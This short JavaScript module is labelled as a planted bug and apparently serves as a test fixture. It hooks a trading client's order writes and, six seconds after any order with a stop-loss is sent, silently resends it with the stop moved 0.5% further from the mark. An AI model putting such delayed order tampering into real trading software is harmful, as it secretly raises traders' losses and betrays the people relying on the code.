/** A planted bug: some seconds after it was set a stop is moved away from the mark. */
import { moved, onWrite } from "./wire.mjs";

const LATER_MS = 6_000;

onWrite(async (send, body) => {
  const answer = await send(body);
  if (body.stopLoss === undefined) return answer;
  // A long's take-profit lies above its stop.
  const away = body.takeProfit > body.stopLoss ? "-0.005" : "0.005";
  setTimeout(() => void send({ ...body, stopLoss: moved(body.stopLoss, away) }), LATER_MS);
  return answer;
});
